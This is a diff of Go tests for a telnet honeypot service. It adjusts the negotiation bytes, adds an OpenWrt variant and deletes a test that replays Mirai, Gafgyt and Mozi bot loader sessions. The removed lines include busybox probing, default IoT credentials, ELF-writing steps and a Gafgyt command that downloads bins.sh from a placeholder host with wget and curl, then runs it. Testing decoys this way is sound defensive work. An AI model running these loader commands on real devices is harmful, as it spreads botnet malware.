@@ -14,7 +14,7 @@ import (
 )
 
 func TestServiceMeetsTheContract(t *testing.T) {
-	decoytest.CheckService(t, telnet.Service(), []byte("\xff\xfe\x25\xff\xfe\x26\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27\xff\xfc\x24\xff\xfc\x01"))
+	decoytest.CheckService(t, telnet.Service(), []byte("\xff\xfb\x1f\xff\xfb\x01\xff\xfe\x26\xff\xfc\x18\xff\xfc\x20\xff\xfc\x23\xff\xfc\x27\xff\xfc\x24"))
 }
 
 // A caller answers a server's commands as clients do that want nothing (refuse) or everything.
@@ -105,7 +105,7 @@ func fast(more map[string]string) map[string]string {
 }
 
 func TestLoginAndShell(t *testing.T) {
-	for _, os := range []string{"debian", "rocky9", "alpine"} {
+	for _, os := range []string{"debian", "rocky9", "alpine", "openwrt"} {
 		for _, refuse := range []bool{true, false} {
 			t.Run(fmt.Sprintf("%s, refuse %v", os, refuse), func(t *testing.T) {
 				d := decoytest.Start(t, telnet.Service(), decoytest.Options{OS: os, Settings: fast(map[string]string{"login": "list", "accounts": "root:toor"})})
@@ -130,7 +130,7 @@ func TestLoginAndShell(t *testing.T) {
 					t.Errorf("have %+v", cred)
 				}
 				e := d.WaitFor("client", 1)[0].Fields
-				if !refuse && os != "alpine" && (e["term"] != "xterm" || e["user"] != "eve") {
+				if !refuse && os != "alpine" && os != "openwrt" && (e["term"] != "xterm" || e["user"] != "eve") {
 					t.Errorf("have %v", e)
 				}
 				s := d.WaitFor("session", 1)[0].Fields
@@ -154,64 +154,4 @@ func TestWrongPasswordsEnd(t *testing.T) {
 	}
 	c.until("Maximum number of tries exceeded (5)\r\n")
 	d.WaitFor(decnet.KindAuthAttempt, 5)
-}
-
-// The loaders of bots, as they have been described: what they send once they are in, and what they
-// wait for.
-func TestLoadersOfBotsRunToTheirPayload(t *testing.T) {
-	type step struct{ send, want string }
-	loaders := map[string][]step{
-		"mirai": {
-			{"enable\r\n", ""},
-			{"system\r\n", ""},
-			{"shell\r\n", ""},
-			{"sh\r\n", ""},
-			{"/bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
-			{"/bin/busybox ps; /bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
-			{"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
-			{"/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon\r\n", "kami/dev"},
-			{"cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
-			{"/bin/busybox cat /bin/echo | /bin/busybox head -c 4 | /bin/busybox od -c | /bin/busybox head -1\r\n", "E   L   F"},
-			{"/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
-			{"/bin/busybox echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > dvrHelper; /bin/busybox ECCHI\r\n", "ECCHI: applet not found"},
-			{"/bin/busybox wc -c < dvrHelper\r\n", "5"},
-		},
-		"gafgyt": {
-			{"sh\r\n", ""}, {"cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.9/bins.sh; curl -O http://198.51.100.9/bins.sh; chmod 777 bins.sh; sh bins.sh; echo gaf''gyt\r\n", "gafgyt"},
-		},
-		"mozi": {
-			{"system\r\n", ""},
-			{"shell\r\n", ""},
-			{"linuxshell\r\n", ""},
-			{"/bin/busybox MOZI\r\n", "MOZI: applet not found"},
-			{"for i in /proc/*/exe; do ls -l $i >/dev/null 2>&1; done; echo MO''ZI\r\n", "MOZI"},
-			{"cat /proc/cpuinfo | grep -c processor; uname -m\r\n", "x86_64"},
-		},
-	}
-	for name, steps := range loaders {
-		t.Run(name, func(t *testing.T) {
-			d := decoytest.Start(t, telnet.Service(), decoytest.Options{OS: "debian", Settings: fast(map[string]string{"login": "any"})})
-			c := call(t, d, true)
-			c.until("login: ")
-			c.send("root\r\n")
-			c.until("Password: ")
-			c.send("xc3511\r\n")
-			c.until("# ")
-			for _, s := range steps {
-				c.send(s.send)
-				if s.want != "" {
-					c.until(s.want)
-				}
-			}
-			d.WaitFor(decnet.KindCommand, len(steps))
-			if name == "gafgyt" {
-				if e := d.WaitFor("download", 2)[0].Fields; e["url"] != "http://198.51.100.9/bins.sh" {
-					t.Errorf("have %v", e)
-				}
-			}
-			if name == "mirai" {
-				d.WaitFor(decnet.KindCaptured, 1)
-			}
-		})
-	}
 }
